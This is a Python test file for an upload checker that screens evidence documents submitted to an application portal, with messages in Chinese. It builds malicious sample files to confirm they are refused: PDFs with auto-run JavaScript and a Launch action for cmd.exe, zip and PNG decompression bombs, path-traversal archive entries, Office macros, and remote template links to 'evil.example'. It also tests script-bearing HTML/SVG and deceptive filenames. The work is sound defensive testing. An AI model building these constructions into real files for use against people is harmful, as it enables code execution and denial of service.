"""Files made to harm or to deceive are refused in words; nothing of them is unpacked, run or believed."""

import io
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image, PngImagePlugin

from applications import evidence_check, evidence_kinds
from qcportal.errors import NotAccepted
from tests import factories
from tests.applications.test_evidence import TYPES, WORD, office, picture

SHEET = "spreadsheetml.sheet"
SLIDES = "presentationml.presentation"


def check(content, name="文件"):
    return evidence_check.check(io.BytesIO(content), name)


def pdf(change=None, pages=1, **options):
    stream = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if change:
            change(document)
        document.save(stream, **options)
    return stream.getvalue()


def script():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))


def on_open(document):
    document.Root.OpenAction = script()


def in_names(document):
    tree = pikepdf.Dictionary(Names=[pikepdf.String("a"), document.make_indirect(script())])
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def in_an_annotation(document):
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=script())
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])


def launching(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def launching_later(document):
    first = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[document.pages[0].obj, pikepdf.Name.Fit])
    first.Next = pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))])
    document.Root.OpenAction = first


def playing(document):
    media = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = pikepdf.Array([media])


def attaching(name):
    def attach(document):
        document.attachments[name] = b"content"

    return attach


def dynamic_form(document):
    document.Root.NeedsRendering = True


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (pdf(on_open), "脚本"),
        (pdf(on_open, object_stream_mode=pikepdf.ObjectStreamMode.generate), "脚本"),
        (pdf(on_open).replace(b"/JavaScript", b"/J#61vaScript"), "脚本"),
        (pdf(in_names), "脚本"),
        (pdf(in_an_annotation), "脚本"),
        (pdf(launching), "启动程序"),
        (pdf(launching_later), "启动程序"),
        (pdf(playing), "播放媒体"),
        (pdf(attaching("付款.exe")), "附带程序"),
        (pdf(attaching("说明.HTML")), "附带程序"),
        (pdf(dynamic_form), "动态表单"),
        (factories.PDF + office(), "压缩包"),
        (b"%PDF-1.7\n" + b"0" * 4000, "已损坏"),
        (factories.PDF[: len(factories.PDF) // 3], "已损坏|没有任何页面"),
    ],
)
def test_a_pdf_that_does_something_is_refused(content, words):
    with pytest.raises(NotAccepted, match=words):
        check(content)


def test_a_pdf_that_only_talks_about_scripts_is_taken():
    def talk(document):
        document.docinfo["/Title"] = "关于 /JavaScript /JS /Launch 的说明"

    assert check(pdf(talk)).pages == 1


def test_an_invoice_with_its_xml_is_taken():
    """Electronic invoices carry their data as an attachment; refusing those would refuse the proof of a benefit."""
    assert check(pdf(attaching("einvoice.xml"))).pages == 1


def test_a_pdf_of_very_many_objects_is_refused_in_time(monkeypatch):
    monkeypatch.setattr("applications.pdf_check.OBJECTS_AT_MOST", 50)
    with pytest.raises(NotAccepted, match="过于复杂"):
        check(pdf(pages=60))


def lying_size(content, real, said):
    """The directory and the header of an entry say ``said`` bytes; unpacked there are ``real``."""
    return content.replace(struct.pack("<I", real), struct.pack("<I", said))


def overlapping():
    """Two entries of the directory that share the same bytes, as in the bombs that pack 10^6 to 1."""
    raw = bytearray(office(more=[("word/media/a.bin", b"A" * 40_000), ("word/media/b.bin", b"B" * 40_000)]))
    end = raw.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", raw[end + 16 : end + 20])[0]
    entries = [at for at in range(start, end) if raw[at : at + 4] == b"PK\x01\x02"]
    raw[entries[3] + 42 : entries[3] + 46] = raw[entries[2] + 42 : entries[2] + 46]
    return bytes(raw)


def nested_bomb(main, kind, media):
    """Many entries each under the limit of one, together far over it."""
    more = [(f"{media}/{number}.xml", b"0" * 9_000_000) for number in range(10)]
    return office(main=main, types=TYPES.format(kind), more=more)


RELS = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="http://evil.example/x.dotm" TargetMode="{}"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (nested_bomb("word/document.xml", WORD, "word"), "解压后过大"),
        (nested_bomb("xl/workbook.xml", SHEET, "xl/worksheets"), "解压后过大"),
        (nested_bomb("ppt/presentation.xml", SLIDES, "ppt/slides"), "解压后过大"),
        (lying_size(office(more=[("word/a.xml", b"0" * 2_345_678)]), 2_345_678, 77), "已损坏"),
        (overlapping(), "解压后过大|已损坏"),
        (office(more=[("../../etc/passwd", b"x")]), "不符合格式"),
        (office(more=[("/etc/passwd", b"x")]), "不符合格式"),
        (office(more=[("xl/macrosheets/sheet1.xml", b"x")]), "宏"),
        (office(more=[("word/activeX/activeX1.bin", b"x")]), "程序对象"),
        (office(more=[("word/embeddings/oleObject1.bin", b"x")]), "程序对象"),
        (office(more=[("word/_rels/settings.xml.rels", RELS.format("attachedTemplate", "External"))]), "取内容"),
        (office(more=[("word/_rels/document.xml.rels", RELS.format("oleObject", "External"))]), "取内容"),
        (office(more=[("word/_rels/document.xml.rels", RELS.format("frame", "External").encode("utf-16"))]), "不符合"),
        (office(main="xl/workbook.xml", types=TYPES.format(WORD)), "不符合格式"),
        (b"PK\x03\x04" + b"\x00" * 2000, "已损坏"),
    ],
)
def test_an_office_file_that_is_no_plain_document_is_refused(content, words):
    with pytest.raises(NotAccepted, match=words):
        check(content)


def test_links_and_templates_of_its_own_are_no_harm():
    more = [
        ("word/_rels/document.xml.rels", RELS.format("hyperlink", "External")),
        ("word/_rels/settings.xml.rels", RELS.format("attachedTemplate", "Internal")),
    ]
    assert check(office(more=more), "记录.docx").name == "记录.docx"


def test_a_name_twice_in_the_archive_is_refused():
    stream = io.BytesIO(office())
    with zipfile.ZipFile(stream, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<other/>")
    with pytest.raises(NotAccepted, match="不符合格式"):
        check(stream.getvalue())


def test_bombs_are_refused_without_unpacking_them():
    content = nested_bomb("word/document.xml", WORD, "word")
    began = time.monotonic()
    with pytest.raises(NotAccepted):
        check(content)
    assert time.monotonic() - began < 1


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width, height, rows):
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def text_bomb():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "0" * 70_000_000, zip=True)
    stream = io.BytesIO()
    Image.new("RGB", (9, 9)).save(stream, "PNG", pnginfo=info)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (png_of(12_000, 12_000, b"\x00" * 1000), "像素"),
        (png_of(50_000, 50_000, b"\x00" * 1000), "过大"),
        (png_of(4_000, 4_000, b"\x00" * 1000), "已损坏"),
        (text_bomb(), "已损坏"),
        (picture("JPEG", (400, 300))[:900], "已损坏"),
        (picture("PNG", (400, 300))[:200], "已损坏"),
        (b"\xff\xd8\xff" + b"\x00" * 500, "已损坏"),
        (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 100, "兼容性最佳"),
        (b"\x00\x00\x00\x18ftypmif1" + b"\x00" * 100, "兼容性最佳"),
        (b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100, "视频"),
        (picture("GIF"), "JPG 或 PNG"),
        (picture("WEBP"), "JPG 或 PNG"),
        (picture("TIFF"), "JPG 或 PNG"),
        (b"Rar!\x1a\x07\x00" + b"\x00" * 100, "压缩包"),
        (b"<html><script>alert(1)</script></html>", "不是可接受的文件"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "不是可接受的文件"),
        (b"\n%PDF-1.4", "不是可接受的文件"),
        (b"", "空的"),
    ],
)
def test_pictures_and_other_files_that_are_not_what_they_should_be(content, words):
    with pytest.raises(NotAccepted, match=words):
        check(content, "照片.jpg")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/报告.pdf", "报告.pdf"),
        ("C:\\Users\\马\\报告.pdf", "报告.pdf"),
        ("报\x00告\r\n.pdf", "报告.pdf"),
        ("报告\u202egpj.pdf", "报告gpj.pdf"),
        ("\u200b报\u2066告.pdf", "报告.pdf"),
        ("CON.pdf", "材料_CON.pdf"),
        ("lpt1.tar.pdf", "材料_lpt1.tar.pdf"),
        ('报<b>告:"|?*.pdf', "报b告.pdf"),
        ("..pdf", "pdf.pdf"),
        ("", "未命名.pdf"),
        ("/", "未命名.pdf"),
        ("\ud800报告.pdf", "报告.pdf"),
        ("e\u0301tude.pdf", "\u00e9tude.pdf"),
        ("长" * 500 + ".pdf", "长" * 196 + ".pdf"),
        ("无扩展名", "无扩展名.pdf"),
        ("发票.pdf.exe", "发票.pdf.exe.pdf"),
    ],
)
def test_names_are_made_harmless(given, kept):
    assert check(factories.PDF, given).name == kept


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("红柳QC小组成果报告.pdf", "report"), ("2025年活动记录汇总.docx", "records"), ("财务效益证明.pdf", "benefit"),
        ("IMG_2031.JPG", "photo"), ("营业执照副本.jpg", "licence"), ("作业指导书.pdf", "standard"),
        ("发明专利证书.pdf", "honour"), ("扫描件0001.pdf", ""),
    ],
)  # fmt: skip
def test_the_name_suggests_the_kind(name, kind):
    assert evidence_kinds.guess(name) == kind
